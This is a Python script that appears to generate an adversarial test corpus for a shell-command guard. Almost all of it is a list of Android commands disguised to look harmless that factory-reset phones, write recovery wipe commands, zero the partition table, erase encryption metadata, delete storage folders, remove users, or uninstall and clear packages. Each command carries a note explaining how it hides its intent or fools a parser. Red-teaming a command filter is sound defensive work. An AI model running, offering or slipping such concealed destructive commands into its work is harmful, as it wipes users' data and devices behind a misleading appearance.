#!/usr/bin/env python3
"""Round 9, attacker C (Android routes to harm): the corpus as Python data.

Writes corpus.jsonl (every line proven by prove.py in the tests/sandbox jail) and unprovable.jsonl
(harmful on a phone, not judged by the sandbox). The command text never goes through a host shell.
Also checks that no cmd repeats a line of the earlier corpora (tests/guard/**, attack/r*/ but r9c).
"""
import glob
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
R = []
U = []


def add(family, cmd, note, shells=None, why=None):
    d = {"family": family, "cmd": cmd, "note": note}
    if shells:
        d["shells"] = shells
        d["shells_why"] = why
    R.append(d)


def unprovable(family, cmd, note, why):
    U.append({"family": family, "cmd": cmd, "note": note, "why": why})


# --- esn-arity: am's `--esn KEY` takes one word, not a key and a value --------------------------------------
add("esn-arity",
    r"""am broadcast --esn from android/com.android.server.MasterClearReceiver""",
    "`--esn KEY` puts a null string extra and takes only the key (Intent.parseCommandArgs), unlike every other "
    "`--e*` extra. A reader that gives it a key and a value reads the component as the extra's value; am reads it "
    "as its positional component: an explicit broadcast to MasterClearReceiver, which wipes.")
add("esn-arity",
    r"""cmd activity broadcast --esn reason 'intent:#Intent;action=android.intent.action.%46%41%43%54%4F%52%59_%52%45%53%45%54;package=android;end'""",
    "The intent URI sits where a reader of `--esn reason VALUE` expects the value; am takes it as the intent: "
    "FACTORY_RESET (every letter percent-encoded, decoded by parseUri) to the android package's MasterClearReceiver.")
add("esn-arity",
    r"""am start --esn referrer 'intent:#Intent;component=com.android.settings/.Settings%24%46actory%52eset%41ctivity;end'""",
    "`--esn referrer` looks like a referrer extra whose value is the link; the link is am's intent: "
    "Settings$FactoryResetActivity (`$`, F, R, A percent-encoded), the factory-reset screen.")
add("esn-arity",
    r"""am start-activity -W --esn utm_source 'android-app://com.android.settings#Intent;component=com.android.settings/.Settings%24%46actory%52esetConfirmActivity;end'""",
    "An `android-app:` URI after `--esn utm_source`, read by am as the intent: Settings$FactoryResetConfirmActivity "
    "(the last reset screen, one button erases; Android 12+).")

# --- recovery-words: recovery arguments no corpus used ---------------------------------------------------------
add("recovery-words",
    r"""service call recovery 2 s16 --prompt_and_wipe_data && setprop sys.powerctl reboot,recovery""",
    "IRecoverySystem.setupBcb writes `recovery\\n--prompt_and_wipe_data` into the bootloader control block (uncrypt "
    "prefixes `recovery`); init's `sys.powerctl` property then reboots into recovery, which shows only the "
    "'Factory data reset' prompt (RescueParty's argument, not `--wipe_data`). Earlier lines used --wipe_data and "
    "svc power reboot. Needs root (sys.powerctl, the recovery service), like every BCB line.")
add("recovery-words",
    r"""service call recovery 4 s16 "$(printf -- '--prompt_and_wipe_data\n--reason=%s' storage_low)" """.rstrip(),
    "rebootRecoveryWithCommand with a two-line command built by printf: `--prompt_and_wipe_data` and a "
    "`--reason=storage_low` line that makes it look like a storage maintenance reboot. Recovery asks to wipe.")

# --- fragment-host: SubSettings shows any fragment -------------------------------------------------------------
add("fragment-host",
    r"""am start -n com.android.settings/.SubSettings --es :settings:show_fragment com.android.settings.MasterClearConfirm""",
    "SubSettings.isValidFragment returns true for every fragment (no SettingsGateway check), so it shows "
    "MasterClearConfirm, the final reset screen whose single button erases the phone. Earlier lines used the "
    "`.Settings` host and the first MasterClear screen. (Names up to Android 10; 11+ is MainClearConfirm.)")
add("fragment-host",
    r"""cmd activity start-activity 'intent:#Intent;component=com.android.settings/.SubSettings;S.:settings:show_fragment=com.android.settings.Master%43lear%43onfirm;end'""",
    "The same SubSettings host through an intent URI; the fragment name is an `S.` extra with `%43` for both Cs.")
add("fragment-host",
    r"""am start 'android-app://com.android.settings#Intent;component=com.android.settings/.SubSettings;S.%3Asettings%3Ashow_fragment=com.android.settings.%4Daster%43lear;end'""",
    "SubSettings with the MasterClear fragment, key and value percent-encoded, in an `android-app:` URI whose host "
    "is just the Settings package.")

add("fragment-host",
    r"""am start -ncom.android.settings/.SubSettings -e:settings:show_fragment com.android.settings.MasterClearConfirm""",
    "SubSettings and MasterClearConfirm again, with `-n` and `-e` written with their first argument glued on "
    "(`-e:settings:show_fragment` is `-e` with the key `:settings:show_fragment`; the next word is the value).")

# --- attached: ShellCommand takes a short option's value glued to it -------------------------------------------
add("attached",
    r"""am broadcast -pandroid -aandroid.intent.action.MASTER_CLEAR""",
    "ShellCommand.getNextOption splits `-pandroid` into `-p` with the attached value `android` (getNextArg returns "
    "it), and `-a…` likewise: MASTER_CLEAR to the android package. A reader that wants `-a VALUE` as two words sees "
    "two unknown flags and no intent.")
add("attached",
    r"""am broadcast -nandroid/com.android.server.MasterClearReceiver""",
    "`-n` with its component glued on: an explicit broadcast to MasterClearReceiver.")
add("attached",
    r"""cmd activity start-activity '-ncom.android.settings/.Settings$FactoryResetActivity'""",
    "`-n` glued to Settings$FactoryResetActivity, through `cmd activity`: the reset screen.")
add("attached",
    r"""am broadcast -acom.google.android.c2dm.intent.RECEIVE -candroid.intent.category.MASTER_CLEAR -pandroid --es from google.com""",
    "The remote-wipe filter of MasterClearReceiver (c2dm RECEIVE + category MASTER_CLEAR + from=google.com) with "
    "`-a`, `-c` and `-p` all glued to their values.")

# --- opt-dup: the last of a repeated am option wins -------------------------------------------------------------
add("opt-dup",
    r"""am broadcast -a android.intent.action.VIEW -p android -a android.intent.action.MASTER_CLEAR""",
    "Each `-a` calls intent.setAction, so the last one is the action: MASTER_CLEAR to the android package. A reader "
    "that keeps the first `-a` sees a VIEW broadcast.")
add("opt-dup",
    r"""am start -n com.android.settings/.Settings -W -n 'com.android.settings/.Settings$FactoryResetActivity'""",
    "`-n` twice: setComponent is called again, so the second component, Settings$FactoryResetActivity, is started; "
    "the first reads as opening Settings.")

add("opt-dup",
    r"""am broadcast -p com.android.settings -a android.intent.action.FACTORY_RESET -p android""",
    "`-p` twice: setPackage is called again, so the broadcast is limited to `android` (MasterClearReceiver), not "
    "to Settings as the first `-p` suggests.")

# --- grep-context: a package named, its neighbours in the device's list taken -----------------------------------
add("grep-context",
    r"""pm list packages | grep -A3 whatsapp | cut -d: -f2 | xargs -n1 pm clear""",
    "Reads as \"clear WhatsApp\", but grep's `-A3` adds the 3 lines after the match: the next three packages of the "
    "device's list (which ones depends on the device) are cleared too.")
add("grep-context",
    r"""cmd package list packages -3 | grep -B3 spotify | sed s/package:// | while read p; do cmd package uninstall --user 0 $p; done""",
    "`-B3`: the 3 packages listed before spotify are uninstalled with it (here every user app).")
add("grep-context",
    r"""pm list packages -s | grep -C1 systemui | cut -d: -f2 | while read p; do pm uninstall --user 0 "$p"; done""",
    "`-C1`: the system package before and after systemui in the device's list (Settings and Phone here) are "
    "uninstalled for user 0 with SystemUI.")
add("grep-context",
    r"""pm list packages | sed '/gms/q' | cut -c9- | xargs -n1 pm uninstall -k --user 0""",
    "sed's `q` prints up to and including the gms line and stops: every package listed before Play services is "
    "uninstalled, though the command names only gms.")

# --- list-range: a range of the device's list between two names ------------------------------------------------
add("list-range",
    r"""pm list packages -s | sed -n '/settings/,$s/^package://p' | xargs -n1 pm clear""",
    "A sed address range from the line matching `settings` to the last line (`$`): Settings and every system "
    "package after it in the device's order are cleared.")
add("list-range",
    r"""pm list packages | awk -F: '/whatsapp/,/gms/{print $2}' | xargs -n1 pm clear""",
    "An awk range pattern `/whatsapp/,/gms/`: both named packages and everything the device lists between them.")

add("list-range",
    r"""pm list packages -3 | sed '1,/whatsapp/d; s/package://' | xargs -n1 pm uninstall""",
    "sed deletes the lines from the first through the one matching whatsapp; everything the device lists after "
    "WhatsApp is uninstalled. The only name written is one that is kept.")
add("list-range",
    r"""ls /data/user_de/0 | sed -n '/example.other/,$p' | while read p; do rm -rf /data/user_de/0/$p/databases; done""",
    "A sed range over the device-encrypted data directories, from one named app to the end of the listing: the "
    "databases of that app and of every app sorted after it are deleted.")

# --- notation: more than 3 literal packages in Android notations no corpus used ---------------------------------
add("notation",
    r"""for r in android-app://com.whatsapp android-app://com.spotify.music android-app://com.example.app android-app://com.example.other; do pm clear ${r#*//}; done""",
    "Referrer URIs (`android-app://PKG`, Intent.EXTRA_REFERRER's form): 4 packages cleared, no bare name written.")
add("notation",
    r"""for p in com.whatsapp:pushservice com.spotify.music:widget com.example.app:sync com.example.other:remote; do cmd package clear ${p%:*}; done""",
    "Process names as `ps` shows an app's extra processes (`PKG:NAME`): the part before the colon, 4 apps cleared.")
add("notation",
    r"""for x in com.whatsapp.permission.C2D_MESSAGE com.spotify.music.permission.SECURED com.example.app.permission.SYNC com.example.other.permission.READ; do pm uninstall ${x%.permission.*}; done""",
    "Custom permission names (`PKG.permission.NAME`): the package is what comes before `.permission.`; 4 apps "
    "uninstalled.")
add("notation",
    r"""for d in com/whatsapp com/spotify/music com/example/app com/example/other; do pm clear $(echo $d | tr / .); done""",
    "Java source/dex directory form (`com/whatsapp`), turned into package names by `tr / .`: 4 apps cleared.")

# --- saf: storage folders as Storage Access Framework document ids ----------------------------------------------
add("saf",
    r"""d=primary:DCIM; rm -rf /sdcard/${d#*:}""",
    "ExternalStorageProvider's document id `primary:DCIM` (volume `primary`, path DCIM): the part after the colon is "
    "a top-level storage folder, deleted.")
add("saf",
    r"""u='content://com.android.externalstorage.documents/tree/primary%3APictures'; t=$(printf "$(echo ${u##*/} | sed 's/%/\\x/g')"); rm -rf "/storage/emulated/0/${t#primary:}""" + '"',
    "A SAF tree URI (what ACTION_OPEN_DOCUMENT_TREE returns): its last segment percent-decoded by sed+printf is "
    "`primary:Pictures`; the Pictures folder is deleted.")
add("saf",
    r"""u=content://com.android.providers.downloads.documents/document/raw%3A%2Fstorage%2Femulated%2F0%2FMovies; p=$(printf "$(echo ${u##*/} | sed 's/%/\\x/g')"); rm -rf "${p#raw:}""" + '"',
    "DownloadsProvider's `raw:` document ids carry an absolute path; decoded, this one is /storage/emulated/0/Movies, "
    "deleted. No storage path is written in clear.")

add("saf",
    r"""d='primary:'; rm -rf /storage/emulated/0/${d#primary:}*""",
    "`primary:` (empty path) is the root document of the primary volume in ExternalStorageProvider: the path after "
    "it is empty, so the glob is every top-level folder of the storage.")

# --- recovery-locate: the recovery directory found by its log -------------------------------------------------
add("recovery-locate",
    r"""f=$(find / -name last_log 2>/dev/null | head -n1); echo --prompt_and_wipe_data > "${f%/*}/command""" + '"',
    "Recovery leaves `last_log` in its directory; the command file is written next to it (/cache/recovery/command, "
    "here /data/cache/recovery): the next boot to recovery asks to wipe. No recovery path is written.")
add("recovery-locate",
    r"""for d in /*/recovery; do echo --wipe_data > $d/command; done""",
    "The glob `/*/recovery` finds /cache/recovery (through the /cache link); `command` is written in it.")
add("recovery-locate",
    r"""l=$(ls /*/*/recovery/last_log); echo --prompt_and_wipe_data >"${l%last_log}command""" + '"',
    "`/*/*/recovery/last_log` is /data/cache/recovery/last_log; its name with `last_log` replaced by `command` is "
    "the recovery command file.")

# --- allexport: CLASSPATH for app_process exported by `set -a` / typeset -x ----------------------------------------
add("allexport",
    r"""set -a; CLASSPATH=/system/framework/am.jar; app_process /system/bin com.android.commands.am.Am broadcast 'intent:#Intent;action=android.intent.action.MASTER%5FCLEAR;package=android;end'""",
    "`set -a` exports every later assignment, so the plain `CLASSPATH=…` statement reaches app_process without "
    "`export` or a prefix: Am loads and broadcasts MASTER_CLEAR (URI-encoded `_`).")
add("allexport",
    r"""set -a; CLASSPATH=$ANDROID_ROOT/framework/pm.jar; app_process $ANDROID_ROOT/bin com.android.commands.pm.Pm remove-user 10""",
    "Pm through app_process with CLASSPATH exported by `set -a`: removes user 10 (work profile or second user) and "
    "its data.")
add("allexport",
    r"""typeset -x CLASSPATH=/system/framework/pm.jar; pm list packages -3 | cut -d: -f2 | xargs -n1 app_process /system/bin com.android.commands.pm.Pm uninstall""",
    "mksh's `typeset -x` exports CLASSPATH; xargs runs Pm's uninstall through app_process for every user app.",
    ["mksh"], "busybox sh has no typeset builtin (\"typeset: not found\"), so CLASSPATH is not exported and Pm "
    "cannot load")

# --- mount-point: the /data mount point read from /proc/mounts -------------------------------------------------------
add("mount-point",
    r"""m=$(awk '$3=="f2fs"{print $2}' /proc/mounts); rm -f $m/system/packages.xml""",
    "The mount point of the f2fs filesystem in /proc/mounts is /data (on a phone also /metadata, /data_mirror…): "
    "`$m/system/packages.xml` is the package database. Earlier lines read the block device from the mount table, "
    "never the mount point.")
add("mount-point",
    r"""while read dev mnt fs rest; do [ "$fs" = f2fs ] && rm -rf $mnt/misc; done < /proc/mounts""",
    "A read loop over /proc/mounts: for the f2fs mount (/data) `$mnt/misc` is /data/misc (Wi-Fi, keystore, vold "
    "state), deleted.")

# --- vold-id: vold's volume and disk ids as paths and device numbers -------------------------------------------------
add("vold-id",
    r"""v='emulated;0'; rm -rf "/storage/${v%;*}/${v#*;}/Download""" + '"',
    "vold's volume id `emulated;0` (as `sm list-volumes` prints it) split at `;` gives /storage/emulated/0: the "
    "Download folder deleted.")
add("vold-id",
    r"""v=disk:179,0; n=${v#*:}; mknod /data/local/tmp/sd b ${n%,*} ${n#*,} && dd if=/dev/zero of=/data/local/tmp/sd bs=4096 count=16 conv=notrunc""",
    "vold's disk id `disk:179,0` is the major,minor of the eMMC: a block node made from it in /data/local/tmp and "
    "its first 64 KiB (the partition table) zeroed. No /dev path is written.",
    ["mksh"], "busybox sh runs its own mknod applet instead of the sandbox's /system/bin/mknod stub, and the jail "
    "forbids a real node (EPERM); on a phone mksh runs toybox mknod, which makes the node as root")
add("vold-id",
    r"""for v in 'emulated;10' 'emulated;11'; do cmd user remove-user ${v#*;}; done""",
    "Per-user emulated volumes (`emulated;10`, `emulated;11`) name the secondary users; both are removed with their "
    "data.")

# --- user-notation: user ids written in Android notations ------------------------------------------------------------
add("user-notation",
    r"""a=10@com.android.contacts; pm remove-user ${a%@*}""",
    "A user-prefixed content authority (`10@authority`, ContentProvider.getUserIdFromAuthority): the part before "
    "`@` is user 10, removed with its data.")
add("user-notation",
    r"""for n in u10_a101 u11_a205; do n=${n%_*}; cmd user remove-user ${n#u}; done""",
    "App user names as `ps` prints them (`u10_a101`: user 10, app 101): users 10 and 11 removed.")
add("user-notation",
    r"""i='UserInfo{10:Work profile:1030}'; i=${i#*\{}; cmd package remove-user ${i%%:*}""",
    "The `UserInfo{ID:NAME:FLAGS}` form of `pm list users`: the id of the work profile, removed through the "
    "package service's remove-user.")

add("user-notation",
    r"""p=/storage/emulated/10; cmd user remove-user ${p##*/}""",
    "The per-user storage path of a secondary user: its last component is the user id, removed.")

# --- prop-name: the test-harness service named from its system property ---------------------------------------------
add("prop-name",
    r"""p=persist.sys.test_harness; s=${p##*.}; cmd $(echo $s | tr -d _) enable""",
    "The persistent property `persist.sys.test_harness` minus its prefix and underscore is the service name "
    "`testharness`: `cmd testharness enable` wipes the accounts and data and restarts in test-harness mode. The "
    "command reads as property handling.")
add("prop-name",
    r"""getprop ro.test_harness >/dev/null; cmd $(echo ro.test_harness | sed 's/^ro\.//; s/_//') enable""",
    "A `getprop ro.test_harness` check, then the same property name turned into the service name by sed: "
    "test-harness mode enabled.")

# --- fastboot-permute: -w after a harmless fastboot command ------------------------------------------------------
add("fastboot-permute",
    r"""fastboot getvar product -w""",
    "fastboot parses options with GNU getopt, which permutes: `-w` after the operands still sets wants_wipe, so "
    "after reading a variable fastboot erases userdata and cache. Earlier lines had `-w` alone or first.")
add("fastboot-permute",
    r"""fastboot reboot -w""",
    "`reboot -w`: the wipe is done before the reboot the command seems to be about.")
add("fastboot-permute",
    r"""fastboot --set-active=a erase metadata""",
    "Erasing `metadata` (behind a slot option) destroys the metadata-encryption keys of /data: userdata can no "
    "longer be decrypted and the phone must be reset. Earlier erase lines named userdata.")

add("fastboot-oem",
    r"""fastboot oem unlock-go""",
    "The vendor command `oem unlock-go` (OnePlus, older Nexus bootloaders) unlocks without the on-screen "
    "confirmation, and unlocking wipes userdata. Earlier lines used `oem unlock` and `flashing unlock`.")

# --- apex-only: the package manager's APEX listing as file operands ----------------------------------------------
add("apex-only",
    r"""pm list packages --apex-only -f | sed 's/^package://; s/=[^=]*$//' | xargs rm -f""",
    "`--apex-only -f` lists the APEX files (/system/apex/*.apex, *.capex: ART, runtime…) with their paths; each is "
    "deleted, and the phone cannot boot. (The sandbox's pm ignores --apex-only and lists every APK, /system, "
    "/product and /data/app, which is the same harm class.)")


# --- unprovable -----------------------------------------------------------------------------------------------------
unprovable("fragment-host",
    r"""am start -n com.android.settings/.SubSettings --es :settings:show_fragment com.android.settings.MainClearConfirm""",
    "SubSettings accepts any fragment; MainClearConfirm is the final reset screen on Android 11+.",
    "WIPE_PATTERNS knows MasterClear, not the Android 11+ name MainClear.")
unprovable("system-updates",
    r"""cmd package uninstall-system-updates""",
    "Uninstalls the updates of every updated system app at once (PackageManagerShellCommand), a device-computed set.",
    "The sandbox counts only `uninstall` and `clear` of named packages.")
unprovable("backup-restore",
    r"""bmgr restore 1""",
    "Restores every package in restore set 1 from the backup transport, overwriting each app's data.",
    "bmgr is not a sandbox stub; nothing is logged or changed.")
unprovable("fastboot-lock",
    r"""fastboot flashing lock""",
    "Relocking the bootloader wipes userdata (the same data wipe as unlocking).",
    "WIPE_PATTERNS has fastboot unlock but not lock.")


def main():
    prior = set()
    files = glob.glob("tests/guard/**/*.jsonl", recursive=True)
    files += [f for f in glob.glob("attack/r*/**/*.jsonl", recursive=True) if "/r9c/" not in f]
    for f in files:
        for line in open(f):
            if line.strip():
                try:
                    prior.add(json.loads(line).get("cmd"))
                except json.JSONDecodeError:
                    pass
    dup = [r["cmd"] for r in R + U if r["cmd"] in prior]
    assert not dup, dup
    cmds = [r["cmd"] for r in R]
    assert len(cmds) == len(set(cmds))
    (HERE / "corpus.jsonl").write_text("".join(json.dumps(r) + "\n" for r in R))
    (HERE / "unprovable.jsonl").write_text("".join(json.dumps(r) + "\n" for r in U))
    print(f"corpus.jsonl: {len(R)} lines; unprovable.jsonl: {len(U)}; checked against {len(prior)} earlier lines")


if __name__ == "__main__":
    main()
